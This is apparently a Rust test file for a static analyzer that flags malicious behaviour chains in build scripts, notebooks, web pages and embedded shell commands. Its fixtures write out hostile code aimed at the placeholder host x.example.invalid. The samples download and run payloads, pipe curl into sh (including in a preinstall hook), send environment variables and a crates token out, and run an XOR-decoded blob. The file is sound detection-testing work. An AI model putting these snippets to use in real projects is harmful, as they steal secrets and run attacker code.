//! Rust files, notebooks, pages, and command lines inside programs.

mod support;

use foretaste_model::facts::Language;
use support::{chains, facts};

#[test]
fn rust_build_scripts_are_followed() {
    let cases = [
        (
            "use std::process::Command;\nfn main() { let b = reqwest::blocking::get(\"http://x.example.invalid/a\").unwrap().bytes().unwrap();\n\
             std::fs::write(\"/tmp/a\", &b).unwrap();\nCommand::new(\"/tmp/a\").spawn().unwrap(); }",
            &["network.http > process.spawn [file]"][..],
        ),
        (
            "use std::{env, process::Command as C};\nfn main() { let p = env::temp_dir().join(\"x\"); let body = ureq::get(\"http://x.example.invalid\").call();\n\
             std::fs::write(&p, body); C::new(&p).spawn(); }",
            &[
                "network.http > process.spawn [file]",
                "network.http > process.spawn [order]",
            ],
        ),
        (
            "fn main() { let all: Vec<_> = std::env::vars().collect(); let s = serde_json::to_string(&all).unwrap();\n\
             let c = reqwest::blocking::Client::new(); c.post(\"http://x.example.invalid\").body(s).send(); }",
            &["environment.read-all > encode.object > network.http"],
        ),
        (
            "fn main() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://x.example.invalid/a | sh\").status(); }",
            &["std::process::Command::new: sh: network.http > process.shell"],
        ),
        (
            "use std::net::TcpStream; use std::io::Write;\nfn main() { let t = std::env::var(\"CRATES_TOKEN\").unwrap(); let mut s = TcpStream::connect(\"x.example.invalid:1\").unwrap();\n\
             s.write_all(t.as_bytes()); }",
            &["environment.read > network.socket"],
        ),
        (
            "fn init() { let r = ureq::get(\"http://x.example.invalid\").call().unwrap(); let mut b = Vec::new(); r.into_reader().read_to_end(&mut b).ok();\n\
             let p = std::env::temp_dir().join(\"svc\"); let mut f = std::fs::File::create(&p).unwrap(); f.write_all(&b).unwrap(); std::process::Command::new(p).spawn().ok(); }",
            &[
                "network.http > process.spawn [file]",
                "network.http > process.spawn [order]",
            ],
        ),
        (
            "pub async fn init() { let mut m = HashMap::new(); for (k, v) in std::env::vars() { m.insert(k, v); }\n\
             let _ = reqwest::Client::new().post(\"http://x.example.invalid\").json(&m).send().await; }",
            &["environment.read-all > network.http"],
        ),
        (
            "fn main() { let d = include_bytes!(\"font.bin\"); let o: Vec<u8> = d.iter().map(|b| b ^ 0x5a).collect(); let p = std::env::temp_dir().join(\"f\");\n\
             std::fs::write(&p, o).unwrap(); std::process::Command::new(\"sh\").arg(&p).spawn().ok(); }",
            &["decode.cipher > process.spawn [file]"],
        ),
        (
            "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); let out = std::env::var(\"OUT_DIR\").unwrap();\n\
             std::process::Command::new(\"cmake\").arg(\"..\").current_dir(out).status().unwrap(); cc::Build::new().file(\"a.c\").compile(\"a\"); }",
            &[],
        ),
    ];
    let mut wrong = Vec::new();
    for (text, expected) in cases {
        let found = chains(&facts("build.rs", text));
        if found != expected {
            wrong.push(format!("{text}\n   is {found:?}\n  not {expected:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn rust_functions_imports_and_strings_are_seen() {
    let facts = facts(
        "src/lib.rs",
        "use a::{b::{self, C}, d as e};\n/* \"no\" /* nested */ */\nfn f<'a>(x: &'a str) -> char { g(r#\"https://x.example.invalid/\"#); '\"' }\n\
         pub fn g(_: &str) { unsafe { libloading::Library::new(\"x\") } }\n",
    );
    assert_eq!(facts.language, Language::Rust);
    let functions: Vec<_> = facts.functions.iter().map(|f| &*f.name).collect();
    assert_eq!(functions, ["<module>", "f", "g"]);
    assert_eq!(facts.functions[1].calls.len(), 1);
    let imports: Vec<_> = facts.imports.iter().map(|i| &*i.module).collect();
    assert_eq!(imports, ["a", "a.b", "a"]);
    assert_eq!(&*facts.literals[0].value, "https://x.example.invalid/");
    assert!(
        facts
            .uses
            .iter()
            .any(|u| u.capability.id() == "code.native" && u.function == 2)
    );
}

#[test]
fn notebooks_are_programs_with_places_of_their_own() {
    let text = "{\n \"cells\": [\n  {\"cell_type\": \"markdown\", \"source\": [\"eval(x)\"]},\n  {\"cell_type\": \"code\", \"source\": [\n   \"import os\\n\",\n   \"!curl http://x.example.invalid/a | sh\\n\",\n   \"os.system('id')\"\n  ]}\n ]\n}";
    let facts = facts("a.ipynb", text);
    assert_eq!(facts.language, Language::Notebook);
    let used = facts.uses.iter().find(|u| &*u.api == "os.system").unwrap();
    assert_eq!((used.span.line, used.span.column), (7, 5));
    assert_eq!(chains(&facts), ["shell: network.http > process.shell"]);
    assert_eq!(facts.layers[0].span.line, 6);
}

#[test]
fn pages_have_their_scripts_as_layers() {
    let facts = facts(
        "a.html",
        "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
    );
    assert_eq!(facts.language, Language::Html);
    assert_eq!(facts.layers.len(), 1);
    assert!(
        facts.layers[0]
            .facts
            .uses
            .iter()
            .any(|u| u.capability.id() == "code.eval")
    );
}

#[test]
fn command_lines_inside_programs_are_read_as_shells_read_them() {
    let python = facts(
        "setup.py",
        "import os\nos.system('curl -s http://x.example.invalid/a | sh')\n",
    );
    assert!(
        chains(&python).contains(&"os.system: network.http > process.shell".to_owned()),
        "{:?}",
        chains(&python)
    );
    let node = facts(
        "a.js",
        "require('child_process').exec('env | curl -d @- http://x.example.invalid/')",
    );
    assert!(
        chains(&node)
            .iter()
            .any(|c| c.ends_with(": environment.read-all > network.http")),
        "{:?}",
        chains(&node)
    );
    let list = facts(
        "a.py",
        "import subprocess\nsubprocess.run(['bash', '-c', 'curl http://x.example.invalid/a | sh'])\n",
    );
    assert!(
        chains(&list)
            .iter()
            .any(|c| c.ends_with("network.http > process.shell")),
        "{:?}",
        chains(&list)
    );
    let package = facts(
        "package.json",
        r#"{"scripts": {"preinstall": "curl http://x.example.invalid/a | sh", "test": "curl y | sh"}}"#,
    );
    assert_eq!(
        chains(&package),
        ["preinstall: network.http > process.shell"]
    );
}
